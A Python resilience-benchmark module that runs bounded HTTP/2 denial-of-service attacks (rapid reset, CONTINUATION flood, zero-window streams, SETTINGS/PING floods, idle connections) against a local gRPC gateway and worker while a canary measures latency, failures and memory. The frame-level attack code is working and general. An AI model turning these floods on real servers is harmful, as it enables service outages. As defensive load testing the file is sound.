"""HTTP/2 attacks on the gRPC ports, with a canary client calling through them (issue 21,
item 8). Run by `python -m bench chaos` (after its faults), or alone with
`python -m bench chaos -- --only h2`.

One worker (digits model, HTTP and gRPC) and one gateway in front of it (state dir,
`--grpc-port`), both started with `--target-nofile` descriptors (512, as in the issue).
Each attack runs for `--attack-seconds` against the gateway's gRPC port, then against the
worker's, from raw clients built on the `h2` package's HPACK encoder and hand-made frames
(an attacker does not obey a client library), bounded in count and time, loopback only,
each in a process of its own (the canary's latency is then the target's, not that of a
client sharing an interpreter with the attacker):

- rapid reset: ModelInfer streams (HEADERS + DATA) each cancelled at once (RST_STREAM);
- CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames of
  headers that never end, on connection after connection for the whole attack (bounded
  by CONTINUATION_BYTES: at 256 MB it was over in 0.3 s, and the canary's "p99" was the
  largest of its ~70 calls). Its sockets have a small send buffer, so that what it sends
  is what the server reads: with the kernel's (grown to 4 MB) it copied 3 MB into each
  connection's buffer before the server's close reached it, a process spinning on its
  own memcpy, which on 2 cores measured the canary's share of CPU, not the server;
- zero-window streams: SETTINGS_INITIAL_WINDOW_SIZE 0, 20,000 ServerLive streams whose
  answers the server cannot send, then 13-byte WINDOW_UPDATEs of 1 byte;
- SETTINGS flood and PING flood from a client that never reads (each wants an ACK);
- 600 idle connections (half sent the preface, half nothing).

Meanwhile a canary (tritonclient.grpc ModelInfer, a fresh connection every
CANARY_CALLS_PER_CONNECTION calls, as new clients keep arriving) calls the port under
attack in a loop. Per attack and target the table gives the canary's calls, failures and
p99 next to its p99 with no attack, and the target's RSS (its process tree) before, at
its peak during, and `--settle-seconds` after the attack's connections closed, and how
soon after the attack a fresh client is answered again (within RECOVERY_TIMEOUT_S, or
the row fails and the target is restarted: the next attack must not meet a target still
down). Targets
(issue 21): 0 canary failures; p99 <= 5x the no-attack p99; RSS growth <= 100 MB during
an attack and back within 20 MB of the start after it (the issue sets the RSS ones for
the gateway; the worker is held to the same).
"""
from __future__ import annotations

import multiprocessing
import os
import resource
import shutil
import socket
import tempfile
import threading
import time

import numpy as np

from bench.oip import _seed as seed_digits_service
from bench.procs import free_port, start, stop

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8
MAX_FRAME = 16_384                  # the smallest SETTINGS_MAX_FRAME_SIZE a server may set
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
LIVE_PATH = "/inference.GRPCInferenceService/ServerLive"

RAPID_RESET_STREAMS = 200_000       # at most, per attack
CONTINUATION_BYTES = 4 << 30        # at most, per attack
FLOOD_SEND_BUFFER = 64 << 10        # the flood's bytes go to the server, not into our buffer
ZERO_WINDOW_STREAMS = 20_000
CONTROL_FRAMES = 2_000_000          # SETTINGS or PING frames at most, per attack
IDLE_CONNECTIONS = 600
WRITE_TIMEOUT_S = 1.0               # a write blocked this long: the server stopped reading
CANARY_TIMEOUT_S = 10.0
CANARY_CALLS_PER_CONNECTION = 20
FAILURE_PAUSE_S = 0.1
RECOVERY_TIMEOUT_S = 20.0           # after an attack, a call must be answered within this
SAMPLE_EVERY_S = 0.05


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + \
        stream.to_bytes(4, "big") + payload


def grpc_message(payload: bytes) -> bytes:
    return b"\0" + len(payload).to_bytes(4, "big") + payload


def infer_message() -> bytes:
    from gateway.protos import oip_pb2 as pb

    request = pb.ModelInferRequest(model_name="digits")
    request.inputs.add(name="images", datatype="FP32", shape=[1, 784])
    request.raw_input_contents.append(np.zeros((1, 784), dtype=np.float32).tobytes())
    return grpc_message(request.SerializeToString())


def request_headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
            ("te", "trailers")]


class Attacker:
    """The raw connections of one attack: opened with the preface and a SETTINGS frame,
    written with a timeout, drained by a thread where the attack reads, all closed at the
    end. `notes` says what the server did (closed the connection, stopped reading)."""

    def __init__(self, port: int, deadline: float):
        self.port = port
        self.deadline = deadline
        self.sockets: list[socket.socket] = []
        self.closed_by_server = 0
        self.write_blocked = 0
        self.refused = 0

    def connect(self, settings: bytes = b"", preface: bool = True, drain: bool = True,
                send_buffer: int = 0) -> socket.socket | None:
        """`send_buffer`: the socket's send buffer in bytes (0: the kernel's, which grows to
        4 MB: a flood then mostly copies into a buffer the server never reads)."""
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(WRITE_TIMEOUT_S)
            if send_buffer:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, send_buffer)
            sock.connect(("127.0.0.1", self.port))
            if preface:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        except OSError:
            self.refused += 1
            return None
        self.sockets.append(sock)
        if drain:
            threading.Thread(target=self._drain, args=(sock,), daemon=True).start()
        return sock

    @staticmethod
    def _drain(sock: socket.socket) -> None:
        try:
            sock.settimeout(0.5)
            while True:
                try:
                    if not sock.recv(1 << 16):
                        return
                except socket.timeout:
                    continue
        except OSError:
            return

    def send(self, sock: socket.socket, data: bytes) -> bool:
        """False when the connection is done: closed by the server, or not reading."""
        try:
            sock.sendall(data)
            return True
        except socket.timeout:
            self.write_blocked += 1
        except OSError:
            self.closed_by_server += 1
        return False

    def time_left(self) -> bool:
        return time.monotonic() < self.deadline

    def hold(self) -> None:
        """Keep the connections open (unread) until the deadline."""
        while self.time_left():
            time.sleep(0.05)

    def close(self) -> None:
        for sock in self.sockets:
            sock.close()
        self.sockets = []

    def notes(self, sent: str) -> str:
        parts = [sent]
        if self.closed_by_server:
            parts.append(f"{self.closed_by_server} closed by the server")
        if self.write_blocked:
            parts.append(f"{self.write_blocked} stopped reading")
        if self.refused:
            parts.append(f"{self.refused} refused")
        return "; ".join(parts)


def rapid_reset(attacker: Attacker) -> str:
    import hpack

    infer = infer_message()
    streams = 0
    while attacker.time_left() and streams < RAPID_RESET_STREAMS:
        sock = attacker.connect()
        if sock is None:
            time.sleep(0.05)
            continue
        encoder = hpack.Encoder()
        stream = 1
        while attacker.time_left() and streams < RAPID_RESET_STREAMS and stream < 1 << 30:
            batch = []
            for _ in range(100):
                batch += [frame(HEADERS, END_HEADERS, stream,
                                encoder.encode(request_headers(INFER_PATH))),
                          frame(DATA, END_STREAM, stream, infer),
                          frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))]
                stream += 2
            if not attacker.send(sock, b"".join(batch)):
                break
            streams += 100
    return attacker.notes(f"{streams:,} streams reset")


def continuation_flood(attacker: Attacker) -> str:
    import hpack

    field = b"\x00\x07x-flood\x64" + b"a" * 100   # a literal, never indexed
    fragment = field * (MAX_FRAME // len(field))
    continuation = frame(CONTINUATION, 0, 1, fragment)
    sent = 0
    while attacker.time_left() and sent < CONTINUATION_BYTES:
        sock = attacker.connect(drain=False, send_buffer=FLOOD_SEND_BUFFER)
        if sock is None:
            time.sleep(0.05)
            continue
        block = hpack.Encoder().encode(request_headers(INFER_PATH))
        if not attacker.send(sock, frame(HEADERS, 0, 1, block)):
            continue
        while attacker.time_left() and sent < CONTINUATION_BYTES:
            if not attacker.send(sock, continuation * 16):
                break
            sent += len(continuation) * 16
        if attacker.write_blocked:
            attacker.hold()
    return attacker.notes(f"{sent >> 20} MB of CONTINUATION")


def zero_window(attacker: Attacker) -> str:
    import hpack

    sock = attacker.connect(settings=INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))
    if sock is None:
        return attacker.notes("no connection")
    encoder = hpack.Encoder()
    live = grpc_message(b"")
    opened = 0
    while opened < ZERO_WINDOW_STREAMS and attacker.time_left():
        batch = []
        for stream in range(2 * opened + 1, 2 * (opened + 500) + 1, 2):
            batch += [frame(HEADERS, END_HEADERS, stream,
                            encoder.encode(request_headers(LIVE_PATH))),
                      frame(DATA, END_STREAM, stream, live)]
        if not attacker.send(sock, b"".join(batch)):
            return attacker.notes(f"{opened:,} streams opened")
        opened += 500
    window_updates = 0
    nudge = frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")) * 100
    while attacker.time_left() and window_updates < CONTROL_FRAMES:
        if not attacker.send(sock, nudge):
            break
        window_updates += 100
        time.sleep(0.01)
    return attacker.notes(f"{opened:,} streams, {window_updates:,} WINDOW_UPDATEs")


def control_flood(attacker: Attacker, kind: int, payload: bytes) -> str:
    """SETTINGS or PING frames (each wants an ACK) from a client that never reads."""
    sock = attacker.connect(drain=False)
    sent = 0
    if sock is not None:
        batch = frame(kind, 0, 0, payload) * 1000
        while attacker.time_left() and sent < CONTROL_FRAMES:
            if not attacker.send(sock, batch):
                break
            sent += 1000
        attacker.hold()
    return attacker.notes(f"{sent:,} frames, none read")


def idle_connections(attacker: Attacker) -> str:
    for i in range(IDLE_CONNECTIONS):
        attacker.connect(preface=i % 2 == 0, drain=False)
    opened = len(attacker.sockets)
    attacker.hold()
    return attacker.notes(f"{opened} opened")


# name, attack, its arguments after the Attacker
ATTACKS = [("rapid reset", rapid_reset, ()),
           ("CONTINUATION flood", continuation_flood, ()),
           (f"{ZERO_WINDOW_STREAMS:,} zero-window streams", zero_window, ()),
           ("SETTINGS flood, never read", control_flood, (SETTINGS, b"")),
           ("PING flood, never read", control_flood, (PING, bytes(8))),
           (f"{IDLE_CONNECTIONS} idle connections", idle_connections, ())]


def _attack_process(index: int, port: int, seconds: float, results) -> None:
    """One attack, in its own process: the canary's latency is the target's, not that of a
    client sharing its interpreter with the attacker. Puts "started", then the notes."""
    _, attack, extra = ATTACKS[index]
    results.put("started")
    attacker = Attacker(port, time.monotonic() + seconds)
    try:
        notes = attack(attacker, *extra)
    finally:
        attacker.close()
    results.put(notes)


class Canary:
    """ModelInfer calls in a loop on a thread: (began, seconds, error or None) each; the
    p99 is that of the answered calls (a failure pauses FAILURE_PAUSE_S)."""

    def __init__(self, port: int):
        self.port = port
        self.calls: list[tuple[float, float, str | None]] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> "Canary":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stopping.set()
        self.thread.join(CANARY_TIMEOUT_S + 5)

    def _run(self) -> None:
        import tritonclient.grpc as tgrpc

        images = tgrpc.InferInput("images", [1, 784], "FP32")
        images.set_data_from_numpy(np.zeros((1, 784), dtype=np.float32))
        client = None
        while not self.stopping.is_set():
            if client is None or len(self.calls) % CANARY_CALLS_PER_CONNECTION == 0:
                if client is not None:
                    client.close()
                client = tgrpc.InferenceServerClient(f"127.0.0.1:{self.port}")
            began = time.monotonic()
            error = None
            try:
                client.infer("digits", [images], client_timeout=CANARY_TIMEOUT_S)
            except Exception as exc:  # every failure counts, whatever its kind
                error = f"{type(exc).__name__}: {str(exc)[:100]}"
            self.calls.append((began, time.monotonic() - began, error))
            if error:
                self.stopping.wait(FAILURE_PAUSE_S)  # as a client would before it retries
        client.close()

    def summary(self) -> dict:
        latencies = sorted(seconds for _, seconds, error in self.calls if not error)
        errors = [error for _, _, error in self.calls if error]
        p99 = latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))] * 1e3 \
            if latencies else float("nan")
        return {"calls": len(self.calls), "failures": len(errors), "p99_ms": p99,
                "first_error": errors[0] if errors else ""}


def tree_rss_mb(pid: int) -> float:
    """RSS of `pid` and its descendants."""
    total, pending = 0, [pid]
    while pending:
        current = pending.pop()
        try:
            with open(f"/proc/{current}/status") as f:
                total += next(int(line.split()[1]) for line in f if line.startswith("VmRSS"))
            for task in os.listdir(f"/proc/{current}/task"):
                with open(f"/proc/{current}/task/{task}/children") as f:
                    pending += [int(child) for child in f.read().split()]
        except (OSError, StopIteration):
            continue
    return total / 1024


class PeakRss:
    """The highest RSS of a process tree while in the `with` block."""

    def __init__(self, pid: int):
        self.pid = pid
        self.peak = tree_rss_mb(pid)
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._sample, daemon=True)

    def __enter__(self) -> "PeakRss":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.done.set()
        self.thread.join()

    def _sample(self) -> None:
        while not self.done.wait(SAMPLE_EVERY_S):
            self.peak = max(self.peak, tree_rss_mb(self.pid))


def attack_row(index: int, target: str, port: int, proc, seconds: float, settle: float,
               base_p99: float) -> dict:
    name = ATTACKS[index][0]
    pid = proc.pid
    before = tree_rss_mb(pid)
    context = multiprocessing.get_context("spawn")
    results = context.Queue()
    attacker = context.Process(target=_attack_process, args=(index, port, seconds, results),
                               daemon=True)
    with PeakRss(pid) as rss:
        attacker.start()
        try:
            results.get(timeout=60)  # "started"
            with Canary(port) as canary:
                notes = results.get(timeout=seconds + 60)
        finally:
            attacker.join(10)
            if attacker.is_alive():
                attacker.kill()
                attacker.join()
    ended = time.monotonic()
    recovered = answers_again(port, RECOVERY_TIMEOUT_S)
    time.sleep(max(0.0, ended + settle - time.monotonic()))
    after = tree_rss_mb(pid)
    result = canary.summary()
    row = {"attack": name, "target": target, "notes": notes, **result,
           "base_p99_ms": base_p99, "p99_x": result["p99_ms"] / base_p99,
           "rss_before": before, "rss_peak": rss.peak, "rss_after": after,
           "recovered": "no" if recovered is None else f"{recovered:.1f} s",
           "alive": "yes" if proc.poll() is None else f"DIED ({proc.returncode})"}
    row["ok_failures"] = _mark(result["failures"] == 0 and row["alive"] == "yes" and
                               recovered is not None)
    row["ok_p99"] = _mark(row["p99_x"] <= 5)
    row["ok_growth"] = _mark(rss.peak - before <= 100)
    row["ok_back"] = _mark(after - before <= 20)
    return row


def answers_again(port: int, timeout: float) -> float | None:
    """Seconds until a fresh client's ModelInfer is answered (None: not within timeout)."""
    import tritonclient.grpc as tgrpc

    began = time.monotonic()
    images = tgrpc.InferInput("images", [1, 784], "FP32")
    images.set_data_from_numpy(np.zeros((1, 784), dtype=np.float32))
    while time.monotonic() - began < timeout:
        client = tgrpc.InferenceServerClient(f"127.0.0.1:{port}")
        try:
            client.infer("digits", [images], client_timeout=2.0)
            return time.monotonic() - began
        except Exception:  # not yet: whatever the failure, try again
            time.sleep(FAILURE_PAUSE_S)
        finally:
            client.close()
    return None


def _mark(ok: bool) -> str:
    return "pass" if ok else "FAIL"


class Target:
    """A gateway or worker under attack, started with at most `nofile` descriptors (this
    process keeps its own limit); restarted where an attack left it not answering."""

    def __init__(self, name: str, args: list[str], port: int, grpc_port: int, health: str,
                 nofile: int):
        self.name = name
        self.args = args
        self.port = port
        self.grpc_port = grpc_port
        self.health = health
        self.nofile = nofile
        self.proc = None

    def start(self) -> None:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(self.nofile, hard), hard))
        try:
            self.proc = start(self.args, self.port, health=self.health)
        finally:
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))

    def stop(self) -> None:
        if self.proc is not None:
            stop(self.proc)
            self.proc = None


def _targets(tmp: str, nofile: int) -> list[Target]:
    """The gateway's gRPC port (in front of the worker) and the worker's."""
    from gateway.models import DIGITS_MODEL

    port, grpc_port = free_port(), free_port()
    worker = Target("worker", ["worker", "--service", "digits", "--model", str(DIGITS_MODEL),
                               "--port", str(port), "--grpc-port", str(grpc_port),
                               "--log-level", "WARNING"], port, grpc_port, "/ready", nofile)
    state = os.path.join(tmp, "state")
    seed_digits_service(state, port)
    gateway_port, gateway_grpc = free_port(), free_port()
    gateway = Target("gateway", ["gateway", "--port", str(gateway_port), "--grpc-port",
                                 str(gateway_grpc), "--state-dir", state, "--log-level",
                                 "WARNING"], gateway_port, gateway_grpc, "/health", nofile)
    return [gateway, worker]


def add_arguments(parser) -> None:
    parser.add_argument("--attack-seconds", type=float, default=6.0,
                        help="each HTTP/2 attack runs this long against each target")
    parser.add_argument("--settle-seconds", type=float, default=3.0,
                        help="RSS 'after' is read this long after an attack's connections close")
    parser.add_argument("--baseline-seconds", type=float, default=4.0,
                        help="the canary alone, for its p99 without attack")
    parser.add_argument("--target-nofile", type=int, default=512,
                        help="descriptors the gateway and worker may open (ulimit -n)")


def run(args) -> bool:
    """Print the attacks' table; True when every target is met."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4 * IDLE_CONNECTIONS)), hard))
    tmp = tempfile.mkdtemp(prefix="infergate-chaos-h2-")
    targets = _targets(tmp, args.target_nofile)
    rows = []
    try:
        for target in reversed(targets):  # the worker first: the gateway forwards to it
            target.start()
        for target in targets:
            with Canary(target.grpc_port):
                time.sleep(1)  # warm-up
            with Canary(target.grpc_port) as baseline:
                time.sleep(args.baseline_seconds)
            base = baseline.summary()
            if base["failures"] or not base["calls"]:
                raise RuntimeError(f"the canary fails on the {target.name} with no attack: "
                                   f"{base['first_error'] or 'no call finished'}")
            print(f"{target.name}: the canary alone, {base['calls']} calls, p99 "
                  f"{base['p99_ms']:.1f} ms", flush=True)
            for index in range(len(ATTACKS)):
                row = attack_row(index, target.name, target.grpc_port, target.proc,
                                 args.attack_seconds, args.settle_seconds, base["p99_ms"])
                print(f"  {row['attack']}: {row['notes']}; canary {row['failures']} failed of "
                      f"{row['calls']} {row['first_error']}", flush=True)
                if row["recovered"] == "no":
                    row["recovered"] = "no: restarted"
                    target.stop()
                    target.start()
                rows.append(row)
    finally:
        for target in targets:
            target.stop()
        shutil.rmtree(tmp, ignore_errors=True)
    from bench.wrk import table

    print(table(rows, [("attack", "attack", "{}"), ("target", "target", "{}"),
                       ("calls", "canary calls", "{}"), ("failures", "failed", "{}"),
                       ("p99_ms", "p99 ms", "{:.1f}"), ("base_p99_ms", "no-attack p99", "{:.1f}"),
                       ("alive", "alive", "{}"), ("recovered", "answers again", "{}"),
                       ("rss_before", "RSS MB start", "{:.0f}"),
                       ("rss_peak", "peak", "{:.0f}"), ("rss_after", "after", "{:.0f}"),
                       ("ok_failures", "0 failed", "{}"), ("ok_p99", "p99<=5x", "{}"),
                       ("ok_growth", "+<=100MB", "{}"), ("ok_back", "back<=20MB", "{}")]))
    ok = all(row[key] == "pass" for row in rows
             for key in ("ok_failures", "ok_p99", "ok_growth", "ok_back"))
    print(f"\nHTTP/2 attack targets (0 canary failures, p99 <= 5x without attack, RSS "
          f"+<= 100 MB during and back within 20 MB after): {'met' if ok else 'NOT met'}")
    return ok


def main(argv: list[str]) -> None:
    import argparse

    parser = argparse.ArgumentParser(prog="python -m bench chaos_h2")
    add_arguments(parser)
    run(parser.parse_args(argv))
